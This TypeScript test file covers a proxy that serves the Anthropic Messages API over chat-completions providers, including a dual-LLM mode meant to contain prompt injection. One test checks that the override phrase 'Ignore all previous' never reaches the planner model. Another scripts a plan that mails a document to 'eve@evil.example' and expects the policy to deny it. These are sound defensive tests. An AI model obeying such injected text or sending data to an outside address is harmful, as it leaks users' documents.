import Anthropic from "@anthropic-ai/sdk";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { dualModels, mailPolicy, models, quarantinedModel } from "./agent.ts";
import { anthropicOf, anthropicTools, nextParams, runMessages, textIn } from "./messages-agent.ts";
import { bootstrapKey, send, startTestServer, type TestServer } from "./running.ts";
import { chunks, completion, Upstream } from "./upstream.ts";

/** The Messages API over a provider that speaks chat completions: official client, server, engine. */

let upstream: Upstream;
let server: TestServer;
beforeAll(async () => {
  upstream = await Upstream.start();
  server = await startTestServer({
    file: `default_provider: local\nlimits: {keep_alive_ms: 20}\nupstream: {backoff_first_ms: 1}\nproviders: {local: {base_url: "${upstream.baseUrl}"}}`,
  });
});
afterAll(async () => {
  await server.close();
  await upstream.stop();
});
beforeEach(() => upstream.program([]));

const single = { "x-features": '{"agent_arch": "single-llm"}' };
const hello = { model: "m", max_tokens: 64, messages: [{ role: "user" as const, content: "Hi" }] };
const readMail = [
  "mail = get_mail(number=7)",
  'wish = parse_with_ai("What does the writer want? " + mail["body"], output_schema=str)',
  "final_return_value = wish",
];
const mailCall = { name: "get_mail", arguments: '{"number": 7}' };

async function failure(run: Promise<unknown>): Promise<InstanceType<typeof Anthropic.APIError>> {
  const error: unknown = await run.then(
    () => undefined,
    (reason: unknown) => reason,
  );
  if (error instanceof Anthropic.APIError) return error;
  throw new Error(`an API error was expected, not ${String(error)}`);
}

test("a question and its answer; system blocks, settings and limits reach the provider", async () => {
  upstream.program([completion("Hello.")]);
  const body = {
    ...hello,
    system: [
      { type: "text" as const, text: "Be brief." },
      { type: "text" as const, text: "Be kind." },
    ],
    temperature: 0.5,
    stop_sequences: ["END"],
    thinking: { type: "enabled" as const, budget_tokens: 2048 },
    tools: anthropicTools,
    tool_choice: { type: "any" as const, disable_parallel_tool_use: true },
  };
  const answer = await anthropicOf(server.url, { headers: single }).messages.create(body);
  expect(answer).toMatchObject({
    type: "message",
    role: "assistant",
    model: "m",
    content: [{ type: "text", text: "Hello." }],
    stop_reason: "end_turn",
    usage: { input_tokens: 11, output_tokens: 7 },
  });
  expect(answer.id).toMatch(/^msg_/);
  expect(upstream.calls[0]?.body).toMatchObject({
    messages: [
      { role: "system", content: "Be brief.\n\nBe kind." },
      { role: "user", content: "Hi" },
    ],
    max_tokens: 64,
    temperature: 0.5,
    stop: ["END"],
    reasoning_effort: "low",
    tool_choice: "required",
    parallel_tool_calls: false,
  });
});

test("images and documents come to the provider in its own form", async () => {
  upstream.program([completion("A cat.")]);
  await anthropicOf(server.url, { headers: single }).messages.create({
    ...hello,
    messages: [
      {
        role: "user",
        content: [
          { type: "image", source: { type: "base64", media_type: "image/png", data: "aGk=" } },
          {
            type: "document",
            source: { type: "text", media_type: "text/plain", data: "The text." },
            title: "Notes",
            context: "Of May.",
          },
          { type: "text", text: "What is it?" },
        ],
      },
    ],
  });
  expect(upstream.calls[0]?.body.messages?.[0]?.content).toEqual([
    { type: "image_url", image_url: { url: "data:image/png;base64,aGk=" } },
    { type: "text", text: "Notes\nOf May.\nThe text.\n\n" },
    { type: "text", text: "What is it?" },
  ]);
});

test("what results show beside text stands behind all of them, where chat completions take it", async () => {
  upstream.program([completion("Two cats.")]);
  const image = (data: string) => ({
    type: "image" as const,
    source: { type: "base64" as const, media_type: "image/png" as const, data },
  });
  const use = (id: string) => ({ type: "tool_use" as const, id, name: "get_mail", input: {} });
  await anthropicOf(server.url, { headers: single }).messages.create({
    ...hello,
    messages: [
      { role: "user", content: "Look at both." },
      { role: "assistant", content: [use("toolu_1"), use("toolu_2")] },
      {
        role: "user",
        content: [
          {
            type: "tool_result",
            tool_use_id: "toolu_1",
            content: [{ type: "text", text: "Here." }, image("aGk=")],
          },
          { type: "tool_result", tool_use_id: "toolu_2", content: [image("aGo=")] },
          { type: "text", text: "And?" },
        ],
      },
    ],
  });
  expect(upstream.calls[0]?.body.messages?.slice(2)).toEqual([
    { role: "tool", tool_call_id: "toolu_1", content: "Here." },
    { role: "tool", tool_call_id: "toolu_2", content: "" },
    {
      role: "user",
      content: [
        { type: "text", text: "Part of the result of tool call toolu_1:" },
        { type: "image_url", image_url: { url: "data:image/png;base64,aGk=" } },
        { type: "text", text: "Part of the result of tool call toolu_2:" },
        { type: "image_url", image_url: { url: "data:image/png;base64,aGo=" } },
      ],
    },
    { role: "user", content: "And?" },
  ]);
});

test("an agent's loop in single-llm, the failure of a tool marked as one", async () => {
  upstream.program([completion("Let me look.", [mailCall]), completion("There is no mail.")]);
  const client = anthropicOf(server.url, { headers: single });
  const answers = await runMessages(
    (messages) => client.messages.create({ ...hello, messages, tools: anthropicTools }),
    "What does my mail say?",
    {
      get_mail: () => {
        throw new Error("no such mail");
      },
    },
  );
  expect(answers[0]).toMatchObject({
    stop_reason: "tool_use",
    content: [
      { type: "text", text: "Let me look." },
      { type: "tool_use", id: expect.stringMatching(/^tc-.{73}$/), name: "get_mail", input: { number: 7 } },
    ],
  });
  expect(textIn(answers[1])).toBe("There is no mail.");
  expect(upstream.calls[1]?.body.messages?.slice(1)).toMatchObject([
    { role: "assistant", content: "Let me look.", tool_calls: [{ id: "call_0" }] },
    { role: "tool", tool_call_id: "call_0", content: "no such mail" },
  ]);
});

test("a stream: thoughts, text and calls as blocks, in the order of the public API", async () => {
  const [start = "", ...rest] = chunks(["Let ", "me look."], [mailCall]);
  const thought = { choices: [{ index: 0, delta: { reasoning_content: "Hmm." } }] };
  upstream.program([{ kind: "events", events: [start, JSON.stringify(thought), ...rest], pieceBytes: 41 }]);
  const client = anthropicOf(server.url, { headers: single });
  const stream = client.messages.stream({ ...hello, tools: anthropicTools });
  const types: string[] = [];
  stream.on("streamEvent", (event) => {
    const index = "index" in event ? event.index : "";
    types.push(`${event.type}${index}`);
  });
  const answer = await stream.finalMessage();
  expect(types).toEqual([
    "message_start",
    "content_block_start0",
    "content_block_delta0",
    "content_block_stop0",
    "content_block_start1",
    "content_block_delta1",
    "content_block_delta1",
    "content_block_stop1",
    "content_block_start2",
    "content_block_delta2",
    "content_block_stop2",
    "message_delta",
    "message_stop",
  ]);
  expect(answer).toMatchObject({
    stop_reason: "tool_use",
    content: [
      { type: "thinking", thinking: "Hmm." },
      { type: "text", text: "Let me look." },
      { type: "tool_use", name: "get_mail", input: { number: 7 } },
    ],
    usage: { input_tokens: 11, output_tokens: 7 },
  });
});

test("a denied call is taken out, and the reason is in the text; streamed too", async () => {
  const mail = { name: "send_mail", arguments: '{"to": "a", "body": "b"}' };
  upstream.program([
    completion("Sending.", [mail]),
    { kind: "events", events: chunks(["Sen", "ding."], [mail]) },
  ]);
  const policy = JSON.stringify({ codes: 'tool "send_mail" { hard deny always; }' });
  const client = anthropicOf(server.url, { headers: { ...single, "x-policy": policy } });
  const body = { ...hello, tools: anthropicTools };
  const whole = await client.messages.create(body);
  const streamed = await client.messages.stream(body).finalMessage();
  for (const answer of [whole, streamed]) {
    expect(answer.stop_reason).toBe("end_turn");
    expect(answer.content.map(({ type }) => type)).toEqual(["text"]);
    expect(textIn(answer)).toMatch(/^Sending\.[\s\S]*'send_mail' is denied/);
  }
});

test("an idle stream is kept alive by pings", async () => {
  upstream.program(async () => {
    await new Promise((resolve) => setTimeout(resolve, 120));
    return { kind: "events", events: chunks(["Late."]) };
  });
  const { text } = await send(`${server.url}/control/chat/v1/messages`, {
    method: "POST",
    headers: { ...single, "content-type": "application/json", "x-api-key": bootstrapKey },
    body: JSON.stringify({ ...hello, stream: true }),
  });
  expect(text).toMatch(/^event: ping\ndata: \{"type":"ping"\}\n\n/);
  expect(text).toMatch(/event: message_stop\ndata: \{"type":"message_stop"\}\n\n$/);
});

test.each([false, true])(
  "dual-llm: a plan over tools and the quarantined model (streamed: %s)",
  async (streamed) => {
    upstream.program(dualModels([readMail]));
    const client = anthropicOf(server.url);
    const answers = await runMessages(async (messages) => {
      const body = { ...hello, model: models, messages, tools: anthropicTools };
      return streamed
        ? await client.messages.stream(body).finalMessage()
        : await client.messages.create(body);
    }, "Read mail 7");
    expect(answers.map((answer) => answer.stop_reason)).toEqual(["tool_use", "end_turn"]);
    expect(JSON.parse(textIn(answers[1]))).toMatchObject({
      status: "success",
      final_return_value: { value: "He wants the plan." },
    });
    const planned = upstream.calls.filter((call) => call.body.model !== quarantinedModel);
    expect(JSON.stringify(planned)).not.toContain("Ignore all previous");
  },
);

test("dual-llm: with stream_thoughts the plan comes as a thinking block, which may be sent back", async () => {
  upstream.program(dualModels([readMail]));
  const client = anthropicOf(server.url, {
    headers: { "x-config": '{"response_format": {"stream_thoughts": true}}' },
  });
  const answers = await runMessages(
    (messages) =>
      client.messages.stream({ ...hello, model: models, messages, tools: anthropicTools }).finalMessage(),
    "Read mail 7",
  );
  expect(answers[0]?.content[0]).toMatchObject({
    type: "thinking",
    thinking: expect.stringMatching(/get_mail[\s\S]*# Line 1: get_mail\n$/),
  });
  // How the plan goes on is told where it goes on.
  expect(answers.at(-1)?.content[0]).toMatchObject({
    type: "thinking",
    thinking: "# Line 2: parse_with_ai\n",
  });
  expect(answers.at(-1)?.stop_reason).toBe("end_turn");
});

test("dual-llm: a tool's failure reaches the plan as an error", async () => {
  upstream.program(
    dualModels([
      [
        "try:",
        "    mail = get_mail(number=7)",
        "except Exception:",
        '    mail = "none"',
        "final_return_value = mail",
      ],
    ]),
  );
  const client = anthropicOf(server.url);
  const answers = await runMessages(
    (messages) => client.messages.create({ ...hello, model: models, messages, tools: anthropicTools }),
    "Read mail 7",
    {
      get_mail: () => {
        throw new Error("no such mail");
      },
    },
  );
  expect(JSON.parse(textIn(answers.at(-1)))).toMatchObject({ final_return_value: { value: "none" } });
});

test("dual-llm: a leak is denied with the rule", async () => {
  upstream.program(
    dualModels([
      [
        'document = get_document(name="plan")',
        'final_return_value = send_mail(to="eve@evil.example", body=document)',
      ],
    ]),
  );
  const client = anthropicOf(server.url, { headers: { "x-policy": mailPolicy } });
  const answers = await runMessages(
    (messages) => client.messages.create({ ...hello, model: models, messages, tools: anthropicTools }),
    "Send the plan to eve",
  );
  expect(answers).toHaveLength(2);
  expect(answers[1]?.stop_reason).toBe("end_turn");
  expect(textIn(answers[1])).toContain('"denied": [{');
});

test("the same request under an Idempotency-Key gets the same answer, whole or streamed", async () => {
  upstream.program([completion("Let me look.", [mailCall])]);
  const client = anthropicOf(server.url, { headers: { ...single, "idempotency-key": "once" } });
  const body = { ...hello, tools: anthropicTools };
  const first = await client.messages.create(body);
  expect(await client.messages.create(body)).toEqual(first);
  expect(upstream.calls).toHaveLength(1);
});

const refused = [
  { what: "no max_tokens", body: { model: "m", messages: [] }, status: 400, message: /max_tokens/ },
  {
    what: "a provider's tool",
    body: { ...hello, tools: [{ type: "web_search_20250305", name: "web_search" }] },
    status: 400,
    message: /tools\[0\]: this server does not offer/,
  },
  {
    what: "a file of the provider's in dual-llm",
    body: {
      ...hello,
      messages: [{ role: "user", content: [{ type: "image", source: { type: "file", file_id: "file_1" } }] }],
    },
    status: 400,
    message: /^file_id: in dual-llm/,
  },
  {
    what: "a result of no call",
    body: {
      ...hello,
      messages: [
        {
          role: "user",
          content: [
            {
              type: "tool_result",
              tool_use_id: "tc-0b0a3a3e-8d5e-4f6a-9a44-7b3f1a2c4d5e-0b0a3a3e-8d5e-4f6a-9a44-7b3f1a2c4d5e",
              content: "x",
            },
          ],
        },
      ],
    },
    status: 404,
    message: /no such session/,
  },
] as const;
test.each(refused)("$what is refused in the API's own form", async ({ body, status, message }) => {
  const answer = await send(`${server.url}/control/chat/v1/messages`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-api-key": bootstrapKey },
    body: JSON.stringify(body),
  });
  expect(answer.status).toBe(status);
  expect(answer.json).toMatchObject({
    type: "error",
    error: { type: status === 404 ? "not_found_error" : "invalid_request_error" },
    detail: expect.any(String),
  });
  expect(answer.json.error?.message).toMatch(message);
});

test("the official client raises its own classes", async () => {
  const nobody = anthropicOf(server.url, { apiKey: "sk-seq-unknown" });
  expect(await failure(nobody.messages.create(hello))).toBeInstanceOf(Anthropic.AuthenticationError);
  const policy = { "x-policy": '{"codes": "tool \\"a\\" { hard dney always; }"}' };
  const wrong = await failure(anthropicOf(server.url, { headers: policy }).messages.create(hello));
  expect(wrong).toBeInstanceOf(Anthropic.UnprocessableEntityError);
  const elsewhere = anthropicOf(server.url, { path: "/control/nowhere" });
  expect(await failure(elsewhere.messages.create(hello))).toBeInstanceOf(Anthropic.NotFoundError);
  upstream.program(() => ({ kind: "json", status: 429, headers: { "retry-after": "99" }, body: {} }));
  const limited = await failure(anthropicOf(server.url, { headers: single }).messages.create(hello));
  expect(limited).toBeInstanceOf(Anthropic.RateLimitError);
  expect(limited.headers?.get("retry-after")).toBe("99");
  upstream.program([{ kind: "events", events: chunks(["Half of "]).slice(0, 2), cut: true }]);
  const stream = anthropicOf(server.url, { headers: single }).messages.stream(hello);
  expect((await failure(stream.finalMessage())).message).toMatch(/broke in the middle/);
});

test("keys: ours as x-api-key or as a bearer token, the provider's beside it; ours never goes upstream", async () => {
  upstream.program(() => completion("x"));
  const post = (headers: Readonly<Record<string, string>>) =>
    send(`${server.url}/control/chat/v1/messages`, {
      method: "POST",
      headers: { ...single, "content-type": "application/json", ...headers },
      body: JSON.stringify(hello),
    });
  const bearer = { authorization: `Bearer ${bootstrapKey}` };
  expect((await post({ "x-api-key": bootstrapKey })).status).toBe(200);
  expect((await post(bearer)).status).toBe(200);
  expect((await post({ ...bearer, "x-api-key": "sk-ant-callers-own" })).status).toBe(200);
  expect((await post({ "x-api-key": "sk-ant-callers-own" })).status).toBe(401);
  expect(upstream.calls.map((call) => call.headers.authorization)).toEqual([
    undefined,
    undefined,
    "Bearer sk-ant-callers-own",
  ]);
});

test("a pending call that is passed over for a new message is finished unseen", async () => {
  upstream.program(dualModels([readMail, ['final_return_value = "second"']]));
  const client = anthropicOf(server.url);
  const body = { ...hello, model: models, tools: anthropicTools };
  const first = [{ role: "user" as const, content: "Read mail 7" }];
  const called = await client.messages.create({ ...body, messages: first });
  const next = nextParams(first, called) ?? [];
  const last = next.at(-1);
  if (last === undefined || typeof last.content === "string") throw new Error("results were expected");
  const answer = await client.messages.create({
    ...body,
    messages: [
      ...next.slice(0, -1),
      { role: "user", content: [...last.content, { type: "text", text: "Never mind." }] },
    ],
  });
  expect(JSON.parse(textIn(answer))).toMatchObject({ final_return_value: { value: "second" } });
});

test("a session goes on in the architecture that it began in when the request names none", async () => {
  upstream.program([completion("Let me look.", [mailCall]), completion("A cat.")]);
  const first = [{ role: "user" as const, content: "What is in mail 7?" }];
  const body = { ...hello, tools: anthropicTools };
  const called = await anthropicOf(server.url, { headers: single }).messages.create({
    ...body,
    messages: first,
  });
  const [call] = called.content.filter((block) => block.type === "tool_use");
  const image = { type: "base64" as const, media_type: "image/png" as const, data: "aGk=" };
  const answer = await anthropicOf(server.url).messages.create({
    ...body,
    messages: [
      ...first,
      { role: "assistant", content: called.content },
      {
        role: "user",
        content: [
          { type: "tool_result", tool_use_id: call?.id ?? "", content: [{ type: "image", source: image }] },
        ],
      },
    ],
  });
  expect(textIn(answer)).toBe("A cat.");
  expect(upstream.calls[1]?.body.messages?.[2]).toMatchObject({ role: "tool", content: "" });
});

test("a bootstrap key without our prefix is known by its x-api-key here, and here alone", async () => {
  const key = "a-bootstrap-key-of-their-own-0001";
  const other = await startTestServer({
    environment: { SEQURITY_BOOTSTRAP_KEY: key },
    file: `default_provider: local\nproviders: {local: {base_url: "${upstream.baseUrl}"}}`,
  });
  upstream.program(() => completion("x"));
  const post = (path: string) =>
    send(`${other.url}/control/chat/v1/${path}`, {
      method: "POST",
      headers: { ...single, "content-type": "application/json", "x-api-key": key },
      body: JSON.stringify(hello),
    });
  expect((await post("messages")).status).toBe(200);
  expect((await post("chat/completions")).status).toBe(401);
  expect(upstream.calls.map((call) => call.headers.authorization)).toEqual([undefined]);
  await other.close();
});

test("an integer that a JavaScript client has rounded is the one that it was sent", async () => {
  upstream.program(dualModels([["final_return_value = get_mail(number=12345678901234567890)"]]));
  const api = anthropicOf(server.url).messages;
  const answers = await runMessages(
    (messages) => api.create({ ...hello, model: models, tools: anthropicTools, messages }),
    "Read it.",
  );
  expect(answers).toHaveLength(2);
  expect(JSON.parse(textIn(answers.at(-1)))).toMatchObject({ status: "success" });
  const [first] = answers;
  if (first === undefined) throw new Error("an answer was expected");
  // Another integer is another call.
  const altered = JSON.parse(
    JSON.stringify(first.content).replace("12345678901234567000", "12345678901234500000"),
  );
  const messages = nextParams([{ role: "user", content: "Read it." }], { ...first, content: altered }) ?? [];
  expect(JSON.stringify(messages)).toContain("12345678901234500000");
  const refused = await failure(api.create({ ...hello, model: models, tools: anthropicTools, messages }));
  expect(refused.message).toMatch(/^400/);
});
